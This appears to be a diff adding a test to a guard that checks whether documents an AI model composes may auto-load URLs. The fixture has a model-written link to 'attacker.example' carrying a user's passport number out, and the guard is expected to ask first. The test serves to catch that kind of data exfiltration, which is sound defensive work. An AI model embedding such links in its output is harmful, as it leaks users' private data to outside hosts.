@@ -161,3 +161,14 @@ describe("a URL's #fragment", () => {
     assert.deepEqual(autoLoadRule(ctx(), { path: "page.html", autoLoads: ["https://cdn.example/v"] })?.reasons.map((r) => r.id), ["flow.document_link_choice"]);
   });
 });
+
+describe("documents in an untrusted context without private data", () => {
+  test("an auto-loading URL the model composed asks: the owner's own words are in every context", () => {
+    const flow = flowOf({ sources: ["https://news.example"], ownerTexts: ["I live at 14 Rue des Lilas; my passport is X47Q19283. Check the page."] });
+    const d = autoLoadRule(flow, { path: "notes.md", autoLoads: ["https://attacker.example/c?d=X47Q19283"] });
+    assert.equal(d?.decision, "ask");
+    assert.match(d?.reasons[0]?.message ?? "", /words from your own message/);
+    // A page's own image, with nothing private in the context, is no choice worth asking about.
+    assert.equal(autoLoadRule({ ...flow, contentUrls: [{ url: "https://news.example/a.png", from: "the page" }] }, { path: "notes.md", autoLoads: ["https://news.example/a.png"] }), undefined);
+  });
+});
